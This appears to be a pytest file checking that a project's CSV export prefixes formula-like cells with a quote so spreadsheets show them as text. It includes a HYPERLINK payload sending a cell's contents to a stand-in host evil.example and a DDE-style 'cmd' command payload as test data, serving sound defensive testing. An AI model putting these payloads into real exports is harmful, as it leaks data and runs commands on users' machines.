"""Exports a spreadsheet opens: text that looks like a formula must stay text."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from dyad.export import csv_cell, export_tables
from dyad.model import Doc, Person, Quote, Record
from dyad.run import store_records
from dyad.store.db import engine_for

PAYLOAD = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
SPEAKER = Person("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", None, "KAZ", "kaz-x", (0, 5))


def _db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'dyad.db'}"
    text = "Someone said: -2+3 is the answer."
    doc = Doc(doc_id="dddd000000000001", source="+cmd.txt", text=text, language="en", title=PAYLOAD,
              published="--03-14")
    record = Record(doc=doc, people=[SPEAKER],
                    quotes=[Quote("x", SPEAKER.name_en, SPEAKER.actor_id, "-2+3 is the answer", (14, 32))])
    engine = engine_for(url)
    store_records(engine, [record])
    engine.dispose()
    return url


def test_csv_cells_that_would_run_as_formulas_are_quoted() -> None:
    for bad in ("=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1"):
        assert csv_cell(bad) == "'" + bad
    assert csv_cell("Tokayev") == "Tokayev" and csv_cell(-5.0) == -5.0 and csv_cell(None) is None
    assert csv_cell(["=x"]) == '["=x"]'


def test_export_csv_has_no_formula_cells(tmp_path: Path) -> None:
    from sqlalchemy import create_engine

    engine = create_engine(_db(tmp_path))
    export_tables(engine, tmp_path / "out", "csv")
    engine.dispose()
    cells = []
    for path in (tmp_path / "out").glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            cells.extend(row)
    assert "'" + PAYLOAD in cells and "'+cmd.txt" in cells and "'--03-14" in cells
    assert not [c for c in cells if c and c[0] in "=+-@"], [c for c in cells if c and c[0] in "=+-@"]


def test_cli_csv_has_no_formula_cells(tmp_path: Path) -> None:
    url = _db(tmp_path)
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")}
    res = subprocess.run([sys.executable, "-m", "dyad.cli", "quotes", "--db", url, "--format", "csv"],
                         capture_output=True, text=True, timeout=60, env=env)
    assert res.returncode == 0, res.stderr
    cells = [c for row in csv.reader(io.StringIO(res.stdout)) for c in row]
    assert "'-2+3 is the answer" in cells, cells
    assert not [c for c in cells if c and c[0] in "=+-@"], cells
